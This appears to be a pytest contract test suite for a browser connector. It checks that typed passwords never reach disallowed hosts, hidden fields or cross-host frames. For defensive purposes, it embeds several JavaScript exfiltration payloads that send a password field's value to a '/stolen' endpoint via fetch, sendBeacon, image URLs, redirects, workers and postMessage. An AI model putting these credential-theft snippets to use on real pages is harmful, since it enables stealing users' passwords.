"""The password reaches no host that is not allowed, whatever the page does."""

from __future__ import annotations

import contextlib
import logging
import time

import pytest

from connectors.browser.errors import ElementHiddenError, ElementMissingError, HostNotAllowedError
from connectors.browser.session import BrowserSession
from tests.contract.browser.conftest import Answer, Request, Site, needs_browser, wait_until

pytestmark = [pytest.mark.browser, needs_browser]

SECRET = "Tr0ub4dor&3 é"
FORM = '<form method=post action="{action}"><input id=p type=password name=p><button id=go>Go</button></form>'


def redirect(target: str, status: int = 307) -> Answer:
    return Answer(status=status, headers={"location": target})


def leaked(site: Site) -> list[Request]:
    """Requests to the host that is not allowed which carry any part of a secret."""
    return [
        each for each in site.requests if each.host == "localhost" and (each.body or "Tr0ub" in each.path)
    ]


def value_of(session: BrowserSession, css: str = "#p") -> str:
    return str(session.run("return document.querySelector(arguments[0]).value", css))


def test_a_secret_is_typed_into_a_visible_field_of_an_allowed_host(
    shared_session: BrowserSession, site: Site
) -> None:
    shared_session.open(site.page("/", FORM.format(action="/in")))
    shared_session.type("#p", SECRET, secret=True)
    assert value_of(shared_session) == SECRET


def test_a_secret_is_not_typed_on_another_host(shared_session: BrowserSession, site: Site) -> None:
    site.page("/", FORM.format(action="/in"))
    shared_session.open(site.url("/", host="localhost"))
    with pytest.raises(HostNotAllowedError) as caught:
        shared_session.type("#p", SECRET, secret=True)
    assert caught.value.host == "localhost"
    assert value_of(shared_session) == ""


def test_a_secret_is_not_typed_into_a_frame_of_another_host(
    shared_session: BrowserSession, site: Site
) -> None:
    site.page("/inner", "<input id=p type=password>")
    shared_session.open(
        site.page("/", f'<iframe width=400 height=200 src="{site.url("/inner", "localhost")}">')
    )
    with pytest.raises(HostNotAllowedError):
        shared_session.type("#p", SECRET, (0,), secret=True)
    assert shared_session.run_in_frame((0,), "return document.querySelector('#p').value") == ""
    assert shared_session.run("return window === top")


def test_a_secret_is_typed_into_a_frame_of_an_allowed_host(
    shared_session: BrowserSession, site: Site
) -> None:
    site.page("/inner", "<input id=p type=password>")
    shared_session.open(site.page("/", '<iframe width=400 height=200 src="/inner">'))
    shared_session.type("#p", SECRET, (0,), secret=True)
    assert shared_session.run_in_frame((0,), "return document.querySelector('#p').value") == SECRET


@pytest.mark.parametrize(
    "style",
    [
        "display:none",
        "visibility:hidden",
        "opacity:0",
        "position:absolute;left:-9999px",
        "width:1px;height:1px;padding:0;border:0",
    ],
)
def test_a_secret_is_not_typed_into_a_hidden_field(
    shared_session: BrowserSession, site: Site, style: str
) -> None:
    shared_session.open(site.page("/", f'<input id=p type=password style="{style}">'))
    with pytest.raises(ElementHiddenError):
        shared_session.type("#p", SECRET, secret=True)
    assert value_of(shared_session) == ""


def test_a_secret_is_not_typed_into_a_field_in_a_hidden_frame(
    shared_session: BrowserSession, site: Site
) -> None:
    site.page("/inner", "<input id=p type=password>")
    shared_session.open(site.page("/", '<iframe src="/inner" style="opacity:0">'))
    with pytest.raises(ElementHiddenError):
        shared_session.type("#p", SECRET, (0,), secret=True)


def test_a_page_that_leaves_when_the_field_gets_the_focus_gets_nothing(
    shared_session: BrowserSession, site: Site
) -> None:
    site.page("/trap", "<input id=p type=password autofocus>")
    target = site.url("/trap", "localhost")
    shared_session.open(site.page("/", f"<input id=p type=password onfocus=\"location='{target}'\">"))
    with contextlib.suppress(HostNotAllowedError, ElementMissingError):
        shared_session.type("#p", SECRET, secret=True)
    shared_session.settle()
    assert not [request for request in site.requests if request.host == "localhost"]


def test_a_field_that_sends_itself_is_guarded(shared_session: BrowserSession, site: Site) -> None:
    target = site.url("/stolen", "localhost")
    script = f"fetch('{target}', {{method: 'POST', mode: 'no-cors', body: value}})"
    shared_session.open(site.page("/", f'<input id=p type=password oninput="{script}">'))
    with pytest.raises(HostNotAllowedError):
        shared_session.type("#p", SECRET, secret=True)
    assert not leaked(site)


def test_a_page_cannot_leave_while_a_secret_is_being_typed(
    shared_session: BrowserSession, site: Site
) -> None:
    site.page("/trap", "<input id=p type=password autofocus oninput=\"fetch('/got?'+value)\">")
    target = site.url("/trap", "localhost")
    shared_session.open(
        site.page("/", f"<input id=p type=password oninput=\"value.length===3&&(location='{target}')\">")
    )
    with shared_session.credentials_guarded() as guard:
        shared_session.type("#p", SECRET, secret=True)
        shared_session.settle()
    assert guard.blocked_hosts == {"localhost"}
    assert not [request for request in site.requests if request.host == "localhost"]


def test_the_guard_outlasts_a_slow_answer(shared_session: BrowserSession, site: Site) -> None:
    def slow(_request: Request) -> Answer:
        time.sleep(1.5)
        return redirect(site.url("/stolen", "localhost"))

    site.pages["/in"] = slow
    script = "fetch('/in', {method: 'POST', body: p.value})"
    shared_session.open(
        site.page("/", f"<input id=p type=password><script>function send(){{{script}}}</script>")
    )
    with shared_session.credentials_guarded() as guard:
        shared_session.type("#p", SECRET, secret=True)
        shared_session.run("send()")
        assert wait_until(lambda: bool(site.posts()))
    assert not leaked(site)
    assert guard.blocked_hosts == {"localhost"}


@pytest.mark.parametrize("status", [307, 308])
def test_a_post_is_not_repeated_to_another_host(
    shared_session: BrowserSession, site: Site, status: int
) -> None:
    site.pages["/in"] = redirect(site.url("/stolen", "localhost"), status)
    shared_session.open(site.page("/", FORM.format(action="/in")))
    with shared_session.credentials_guarded() as guard:
        shared_session.type("#p", SECRET, secret=True)
        shared_session.click("#go")
        shared_session.settle()
    assert site.posts() and not leaked(site)
    assert guard.blocked_hosts == {"localhost"}
    assert guard.blocked[0].carried_secret


def test_a_form_that_posts_to_another_host_is_stopped(shared_session: BrowserSession, site: Site) -> None:
    target = site.url("/stolen", "localhost")
    shared_session.open(site.page("/", FORM.format(action=target)))
    with shared_session.credentials_guarded() as guard:
        assert not guard.form_target_allowed(target)
        shared_session.type("#p", SECRET, secret=True)
        shared_session.click("#go")
        shared_session.settle()
    assert not leaked(site)
    assert guard.blocked_hosts == {"localhost"}


@pytest.mark.parametrize(
    "script",
    [
        "fetch('/in', {method: 'POST', body: p.value})",
        "fetch('TARGET', {method: 'POST', mode: 'no-cors', body: p.value})",
        "new Image().src = 'TARGET?' + encodeURIComponent(p.value)",
        "new Image().src = 'TARGET?' + btoa(unescape(encodeURIComponent('user:' + p.value)))",
        "navigator.sendBeacon('TARGET', p.value)",
        "location = 'TARGET?' + encodeURIComponent(p.value)",
        "open('TARGET?' + encodeURIComponent(p.value))",
        "new Worker(URL.createObjectURL(new Blob([`fetch('TARGET',"
        " {method:'POST',mode:'no-cors',body:'${p.value}'})`])))",
    ],
)
def test_a_script_of_an_open_page_sends_no_secret_elsewhere(
    shared_session: BrowserSession, site: Site, script: str
) -> None:
    site.pages["/in"] = redirect(site.url("/stolen", "localhost"))
    site.pages["/stolen"] = Answer(b"thanks", headers={"access-control-allow-origin": "*"})
    source = script.replace("TARGET", site.url("/stolen", "localhost"))
    shared_session.open(
        site.page("/", f"<input id=p type=password><script>function send(){{{source}}}</script>")
    )
    with shared_session.credentials_guarded() as guard:
        shared_session.type("#p", SECRET, secret=True)
        shared_session.run("send()")
        shared_session.settle(quiet_ms=300)
    if shared_session.opened_tab():
        shared_session.close_tab()
    assert not leaked(site)
    assert guard.blocked_hosts == {"localhost"}


def test_a_frame_of_another_host_cannot_pass_a_secret_on(shared_session: BrowserSession, site: Site) -> None:
    target = site.url("/stolen", "localhost")
    site.page(
        "/inner",
        "<script>onmessage = (e) =>"
        f" fetch('{target}', {{method: 'POST', mode: 'no-cors', body: e.data}})</script>",
    )
    shared_session.open(
        site.page("/", f'<input id=p type=password><iframe src="{site.url("/inner", "localhost")}"></iframe>')
    )
    with shared_session.credentials_guarded() as guard:
        shared_session.type("#p", SECRET, secret=True)
        shared_session.run("frames[0].postMessage(document.querySelector('#p').value, '*')")
        # The frame is another process; it sends when it gets round to it.
        assert wait_until(lambda: "localhost" in guard.blocked_hosts)
    assert not leaked(site)


def test_lost_statistics_are_no_reason_to_stop(shared_session: BrowserSession, site: Site) -> None:
    target = site.url("/count", "localhost")
    shared_session.open(site.page("/", "<input id=p type=password>"))
    with shared_session.credentials_guarded() as guard:
        shared_session.type("#p", SECRET, secret=True)
        shared_session.run("navigator.sendBeacon(arguments[0], 'visits=1')", target)
        shared_session.settle(quiet_ms=300)
    assert not leaked(site)
    assert [(each.host, each.carried_secret) for each in guard.blocked] == [("localhost", False)]
    assert guard.blocked_hosts == set()


def test_allowed_hosts_are_served_and_nothing_is_blocked_afterwards(
    shared_session: BrowserSession, site: Site
) -> None:
    site.page("/home", "welcome")
    site.pages["/in"] = redirect(site.url("/home"), 303)
    site.pages["/free"] = Answer(b"", headers={"access-control-allow-origin": "*"})
    shared_session.open(site.page("/", FORM.format(action="/in")))
    with shared_session.credentials_guarded() as guard:
        shared_session.type("#p", SECRET, secret=True)
        shared_session.click("#go")
        shared_session.settle()
    assert shared_session.url == site.url("/home")
    assert guard.blocked == []
    shared_session.run(
        f"fetch('{site.url('/free', 'localhost')}', {{method: 'POST', mode: 'no-cors', body: 'x'}})"
    )
    shared_session.settle(quiet_ms=200)
    assert leaked(site), "outside the guarded part requests are the page's own affair"


def test_secrets_reach_no_log_and_no_exception(
    shared_session: BrowserSession, site: Site, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    shared_session.open(site.page("/", '<input id=p type=password onfocus="this.remove()">'))
    with pytest.raises(ElementMissingError) as caught:
        shared_session.type("#p", SECRET, secret=True)
    shared_session.open(site.page("/2", "<input id=p type=password>"))
    shared_session.type("#p", SECRET, secret=True)
    shared_session.state()
    seen = (
        caplog.text
        + repr(caught.value)
        + repr(caught.value.__cause__)
        + repr(vars(shared_session.options.__class__))
    )
    assert "Tr0ub" not in seen
